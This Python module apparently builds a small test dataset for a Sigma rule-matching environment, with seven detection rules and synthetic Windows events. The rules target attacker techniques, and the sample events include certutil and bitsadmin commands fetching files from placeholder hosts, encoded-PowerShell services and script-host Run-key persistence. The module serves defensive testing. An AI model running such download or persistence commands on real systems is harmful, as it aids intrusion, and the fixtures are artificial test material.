"""A dataset of seven rules and some thirty events, for tests of whatever stands above the tasks."""

import json
from pathlib import Path
from typing import Any

from sigma_env.tasks.build import build_private

NAME = "small"
SYSMON = "Microsoft-Windows-Sysmon/Operational"

RULES = {
    "whoami": r"""
        title: Whoami from a command line
        description: Somebody other than SYSTEM asks who they are, through cmd.exe.
        logsource: {category: process_creation, product: windows}
        detection:
          selection: {Image|endswith: '\cmd.exe', CommandLine|contains: whoami}
          filter: {User: 'NT AUTHORITY\SYSTEM'}
          condition: selection and not filter
        """,
    "download": r"""
        title: Certutil fetches a file
        description: The certificate tool is used to download from a web server.
        logsource: {category: process_creation, product: windows}
        detection:
          selection:
            Image|endswith: ['\certutil.exe', '\bitsadmin.exe']
            CommandLine|contains|all: [urlcache, http]
          condition: selection
        """,
    "guessing": r"""
        title: Failed network logon from outside
        description: A logon over the network fails, and its source address is not one of ours.
        logsource: {product: windows, service: security}
        detection:
          selection: {EventID: 4625, LogonType: 3}
          ours: {IpAddress|cidr: [10.0.0.0/8, 192.168.0.0/16]}
          nowhere: {IpAddress: '-'}
          condition: selection and not 1 of ours* and not nowhere
        """,
    "autostart": r"""
        title: Script in a Run key
        description: A value of a Run key that names a script host is written to the registry.
        logsource: {category: registry_set, product: windows}
        detection:
          selection: {TargetObject|contains: '\CurrentVersion\Run\', Details|re: '(?i)[wc]script\.exe'}
          condition: selection
        """,
    "service": r"""
        title: Service with an encoded command
        description: A service whose command line hands PowerShell an encoded command is installed.
        logsource: {product: windows, service: system}
        detection:
          selection: {EventID: 7045, ImagePath|contains: powershell}
          flags: {ImagePath|windash|contains: [' -enc ', ' -e ']}
          condition: all of them
        """,
    "names": r"""
        title: Look-up of a dynamic name
        description: A name below a dynamic DNS provider is looked up by anything but the browser.
        logsource: {category: dns_query, product: windows}
        detection:
          selection: {QueryName|endswith: ['.dyn.example', '.schön.example']}
          browser: {Image|endswith: '\browser.exe'}
          absent: {Image: null}
          condition: selection and not (browser or absent)
        """,
    "crash": r"""
        title: Crash of the mail server
        description: The log of applications tells that the mail server has stopped.
        logsource: {product: windows, service: application}
        detection:
          keywords: [mailserver.exe, 'mail store']
          condition: keywords
        """,
}


def process(image: str, command: str, user: str = "CORP\\bob") -> dict[str, Any]:
    return {"Channel": SYSMON, "EventID": 1, "Image": image, "CommandLine": command, "User": user}


def audited(image: str, command: str) -> dict[str, Any]:
    return {"Channel": "Security", "EventID": 4688, "NewProcessName": image, "CommandLine": command}


def logon(event_id: int, logon_type: int, address: str) -> dict[str, Any]:
    return {"Channel": "Security", "EventID": event_id, "LogonType": logon_type, "IpAddress": address}


def value_set(target: str, details: str) -> dict[str, Any]:
    return {
        "Channel": SYSMON, "EventID": 13, "EventType": "SetValue", "TargetObject": target, "Details": details,
    }  # fmt: skip


def service(name: str, path: str, event_id: int = 7045) -> dict[str, Any]:
    return {"Channel": "System", "EventID": event_id, "ServiceName": name, "ImagePath": path}


def query(name: str, image: str | None) -> dict[str, Any]:
    event = {"Channel": SYSMON, "EventID": 22, "QueryName": name}
    return event if image is None else {**event, "Image": image}


EVENTS = [
    process(r"C:\Windows\System32\cmd.exe", "cmd /c whoami"),
    process(r"C:\Windows\System32\cmd.exe", "CMD.EXE /C WHOAMI /all"),
    process(r"C:\Windows\System32\cmd.exe", "cmd /c whoami", r"NT AUTHORITY\SYSTEM"),
    process(r"C:\Windows\System32\powershell.exe", "powershell whoami"),
    process(r"C:\Windows\System32\cmd.exe", "cmd /c dir"),
    process(r"C:\Windows\certutil.exe", "certutil -urlcache -f http://a.example/x"),
    audited(r"C:\Windows\certutil.exe", "certutil -urlcache -f HTTP://b.example/y"),
    audited(r"C:\Windows\bitsadmin.exe", "bitsadmin /urlcache https://c.example"),
    audited(r"C:\Windows\certutil.exe", "certutil -urlcache -delete"),
    process(r"C:\Tools\curl.exe", "curl http://a.example/urlcache"),
    logon(4625, 3, "203.0.113.7"),
    logon(4625, 3, "2001:db8::7"),
    logon(4625, 3, "::ffff:10.2.3.4"),
    logon(4625, 3, "-"),
    logon(4625, 2, "203.0.113.7"),
    logon(4624, 3, "203.0.113.7"),
    value_set(r"HKU\S-1-5-21\Software\Microsoft\Windows\CurrentVersion\Run\Täglich", r"wscript.exe C:\Users\a.vbs"),
    value_set(r"HKLM\Software\Microsoft\Windows\CurrentVersion\Run\Job", r"CSCRIPT.EXE //B C:\b.js"),
    value_set(r"HKLM\Software\Microsoft\Windows\CurrentVersion\Run\Job", r"C:\Program Files\job.exe"),
    value_set(r"HKLM\Software\Other", "wscript.exe"),
    service("updater", "powershell -enc SQBFAFgA"),
    service("updater2", "powershell.exe /e SQBFAFgA"),
    service("helper", r"C:\Program Files\helper.exe"),
    service("updater", "powershell -enc SQBFAFgA", 7040),
    query("host.dyn.example", r"C:\Users\a\agent.exe"),
    query("büro.schön.example", r"C:\Users\a\agent.exe"),
    query("host.dyn.example", r"C:\Apps\browser.exe"),
    query("host.dyn.example", None),
    query("dyn.example.org", r"C:\Users\a\agent.exe"),
    {"Channel": "Application", "EventID": 1000, "Data": ["MailServer.exe", "ntdll.dll"]},
    {"Channel": "Application", "EventID": 1001, "Data": ["Bucket", "the mail store is damaged"]},
    {"Channel": "Application", "EventID": 1000, "Data": ["editor.exe", "ntdll.dll"]},
]


def build_small(folder: Path) -> None:
    """Builds the dataset into the cache that is set; rules and events are written into the folder."""
    (folder / "rules").mkdir()
    for name, text in RULES.items():
        (folder / "rules" / f"{name}.yml").write_text(text, encoding="utf-8")
    events = folder / "events.jsonl"
    events.write_text("".join(json.dumps(event) + "\n" for event in EVENTS), encoding="utf-8")
    build_private(NAME, [folder / "rules"], [events])
